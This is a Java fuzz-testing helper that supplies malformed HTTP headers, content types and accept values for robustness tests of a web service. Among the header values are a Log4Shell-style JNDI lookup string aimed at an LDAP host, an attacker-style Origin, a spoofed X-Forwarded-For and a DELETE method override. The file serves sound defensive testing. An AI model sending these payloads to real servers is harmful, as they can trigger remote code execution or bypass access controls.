package dev.aac.producer.fuzz;

import java.util.List;
import java.util.Map;
import java.util.Random;

/** Headers that a request does better without. */
final class HeaderDamage {

    static final String CONTENT_TYPE = "Content-Type";
    static final String ACCEPT = "Accept";

    private static final String UTF_16 = "application/json; charset=utf-16";

    private static final List<Map.Entry<String, String>> ODD =
            List.of(
                    Map.entry("X-Correlation-Id", "fuzz-1"),
                    Map.entry("X-Correlation-Id", "not well-formed"),
                    Map.entry("X-Correlation-Id", "a".repeat(65)),
                    Map.entry("X-Correlation-Id", "${jndi:ldap://example.org/a}"),
                    Map.entry("Origin", "https://evil.example.org"),
                    Map.entry("Origin", "null"),
                    Map.entry("X-Forwarded-For", "127.0.0.1, ::1, x"),
                    Map.entry("X-HTTP-Method-Override", "DELETE"),
                    Map.entry("Cookie", "aac_refresh=" + "a".repeat(43)),
                    Map.entry("Cookie", "aac_refresh=; ; =;aac_refresh"),
                    Map.entry("Content-Encoding", "gzip"),
                    Map.entry("Accept-Encoding", "br;q=1.0, gzip;q=0.8, *;q=0.1"),
                    Map.entry("Accept-Language", "xx-".repeat(100)),
                    Map.entry("If-None-Match", "*"),
                    Map.entry("If-Match", "\"a\""),
                    Map.entry("Range", "bytes=0-0,5-1,-1"),
                    Map.entry("traceparent", "00-" + "f".repeat(32) + "-" + "f".repeat(16) + "-ff"),
                    Map.entry("User-Agent", "\u00e9".repeat(300)));

    private static final List<String> TYPES =
            List.of(
                    "text/plain",
                    "application/xml",
                    "application/x-www-form-urlencoded",
                    "multipart/form-data; boundary=a",
                    "application/octet-stream",
                    "application/json-patch+json",
                    UTF_16,
                    "application/json; charset=none",
                    "json",
                    "/",
                    "*/*",
                    "a".repeat(300));

    private static final List<String> ACCEPTED =
            List.of(
                    "application/xml",
                    "text/html",
                    "text/plain",
                    "*/*",
                    "application/*;q=0.1",
                    "application/json;q=0",
                    "application/json;q=2",
                    "application/x-ndjson",
                    "/",
                    ",",
                    "a".repeat(300));

    private HeaderDamage() {}

    static Map.Entry<String, String> odd(Random random) {
        return ODD.get(random.nextInt(ODD.size()));
    }

    static String contentType(Random random) {
        return TYPES.get(random.nextInt(TYPES.size()));
    }

    static String accept(Random random) {
        return ACCEPTED.get(random.nextInt(ACCEPTED.size()));
    }
}
